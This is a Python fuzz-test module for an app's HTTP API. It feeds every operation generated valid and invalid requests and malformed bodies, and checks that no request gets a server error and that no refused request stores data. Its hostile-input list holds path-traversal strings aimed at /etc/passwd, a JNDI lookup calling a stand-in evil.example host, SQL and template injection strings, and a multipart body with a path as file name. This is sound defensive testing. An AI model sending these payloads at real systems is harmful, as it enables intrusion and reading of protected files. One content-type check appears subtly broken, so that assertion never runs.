"""Fuzzing every operation of the OpenAPI document against ``orc serve``: schemathesis generates valid and invalid
requests (positive and negative modes), strings are swapped for the hostile corpus, and raw malformed bodies are
sent besides. No answer may be a 5xx, and a refused request may store nothing.

Bounded: a fixed number of examples per operation (derandomized, so a run is repeatable), each request under a
timeout; the suite's own per-test timeout bounds the rest.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
import requests
import schemathesis
from hypothesis import HealthCheck, Phase, settings
from hypothesis import strategies as st
from schemathesis import GenerationMode
from starlette.testclient import TestClient

from orc.http import create_app
from orc.settings import Settings
from tests.adversarial.hostile import CORPUS
from tests.fuzz.stored import Stored, stored
from tests.serving import orc_serve

pytestmark = pytest.mark.slow
EXAMPLES = 10
"""Examples per operation and mode; with the malformed bodies, about 2,000 requests in all."""
REQUEST_SECONDS = 60.0
"""A bound for one answer, not a wait."""

HOSTILE = (
    *CORPUS,
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2fetc%2fpasswd",
    "．．／secret",
    "a\x00b",
    "\u202eevil\u202c.txt",
    "https://evil.example/x",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}{documents}",
    "' OR 1=1 --",
    "x" * 5000,
)
"""The output corpus, and names and values that attack paths, parsers, templates and queries."""


def _hostile(value: Any) -> st.SearchStrategy[Any]:
    """``value`` with any of its strings possibly swapped for a hostile one."""
    if isinstance(value, str):
        return st.one_of(st.just(value), st.sampled_from(HOSTILE))
    if isinstance(value, dict):
        if not value:
            return st.just(value)
        return st.fixed_dictionaries({key: _hostile(item) for key, item in value.items()})
    if isinstance(value, list):
        return st.tuples(*[_hostile(item) for item in value]).map(list)
    return st.just(value)


def openapi_document() -> dict[str, Any]:
    """The OpenAPI document as the app publishes it, read in process without starting the app (no lifespan)."""
    response = TestClient(create_app(Settings())).get("/api/openapi.json")
    assert response.status_code == 200, response.text
    return dict(response.json())


DOCUMENT = openapi_document()
schema = schemathesis.openapi.from_dict(DOCUMENT)
schema.config.generation.update(modes=[GenerationMode.POSITIVE, GenerationMode.NEGATIVE])
# Not the coverage phase: it works out its cases while pytest collects, in every worker, which costs more than the
# requests themselves; the fuzzing phase's negative mode reaches the same boundaries.
schema.config.phases.update(phases=["examples", "fuzzing"])


for _container in ("path_parameters", "query", "body"):

    @schema.hook(f"before_generate_{_container}")  # type: ignore[untyped-decorator]
    def _with_hostile_strings(context: Any, strategy: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
        return strategy.flatmap(_hostile)


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path]]:
    """``orc serve`` with its defaults, and its ORC_HOME."""
    home = tmp_path_factory.mktemp("fuzz") / "home"
    with orc_serve(home) as (url, _):
        yield url, home


@pytest.fixture(scope="module")
def session() -> Iterator[requests.Session]:
    with requests.Session() as opened:
        yield opened


def refused_and_stored(status: int, before: Stored, after: Stored) -> list[str]:
    """What a refused request (4xx) added to storage; nothing for one that succeeded."""
    if status < 400:
        return []
    return sorted(after.added_since(before))


@schema.parametrize()
@settings(
    max_examples=EXAMPLES,
    deadline=None,
    derandomize=True,
    database=None,
    phases=[Phase.explicit, Phase.generate],
    suppress_health_check=list(HealthCheck),
)
def test_no_generated_request_gets_a_5xx_and_a_refused_one_stores_nothing(
    case: schemathesis.Case, served: tuple[str, Path], session: requests.Session
) -> None:
    url, home = served
    before = stored(home)
    response = case.call(base_url=url, session=session, timeout=REQUEST_SECONDS)
    after = stored(home)

    assert response.status_code < 500, f"{response.status_code} {response.text[:500]}\n{case.as_curl_command()}"
    assert refused_and_stored(response.status_code, before, after) == [], case.as_curl_command()
    if response.status_code >= 400 and response.headers.get("content-type", [""])[0].startswith("application/"):
        assert "code" in response.json(), response.text[:500]


MALFORMED: dict[str, tuple[str, bytes]] = {
    "truncated JSON": ("application/json", b'{"question": "What is'),
    "not JSON": ("application/json", b"\xff\xfe\x00garbage"),
    "a JSON array": ("application/json", b"[1, 2, 3]"),
    "JSON nested 100,000 deep": ("application/json", b"[" * 100_000 + b"]" * 100_000),
    "JSON with a huge number": ("application/json", b'{"question": 1' + b"0" * 5000 + b"}"),
    "JSON with duplicate keys": ("application/json", b'{"question": "a", "question": {"$ne": 1}}'),
    "JSON sent as text": ("text/plain", b'{"question": "What is the rent?"}'),
    "form instead of JSON": ("application/x-www-form-urlencoded", b"question=rent&blob_names=a.txt"),
    "multipart without a boundary": ("multipart/form-data", b"--x\r\n\r\nbody\r\n--x--\r\n"),
    "multipart cut short": ("multipart/form-data; boundary=b", b'--b\r\nContent-Disposition: form-data; name="files"'),
    "multipart with a path as file name": (
        "multipart/form-data; boundary=b",
        b'--b\r\nContent-Disposition: form-data; name="files"; filename="../../x.txt"\r\n\r\nhello\r\n--b--\r\n',
    ),
    "empty body": ("application/json", b""),
}
"""Bodies no generator makes from a schema: broken encodings, deep nesting, the wrong media type."""

_OPERATIONS = [
    (method.upper(), path)
    for path, methods in DOCUMENT["paths"].items()
    for method, operation in methods.items()
    if method in ("post", "put", "patch") and "requestBody" in operation
]


def concrete(path: str) -> str:
    """A path with every parameter filled: an id that exists nowhere, or an allowed context type."""
    return path.replace("{context_type}", "folder").replace("{", "fuzz-").replace("}", "")


@pytest.mark.parametrize(("method", "path"), _OPERATIONS, ids=[f"{m} {p}" for m, p in _OPERATIONS])
def test_malformed_bodies_are_refused_with_a_code_and_store_nothing(
    served: tuple[str, Path], method: str, path: str
) -> None:
    url, home = served
    problems = []
    with httpx.Client(base_url=url, timeout=REQUEST_SECONDS) as client:
        for name, (content_type, body) in MALFORMED.items():
            before = stored(home)
            response = client.request(method, concrete(path), content=body, headers={"Content-Type": content_type})
            after = stored(home)
            added = sorted(after.added_since(before))
            code = (
                json.loads(response.content).get("code")
                if response.headers.get("content-type", "").startswith("application/problem+json")
                else None
            )
            if not 400 <= response.status_code < 500 or added or code is None:
                problems.append(f"{name}: {response.status_code} code={code} added={added} {response.text[:200]}")

    assert problems == []
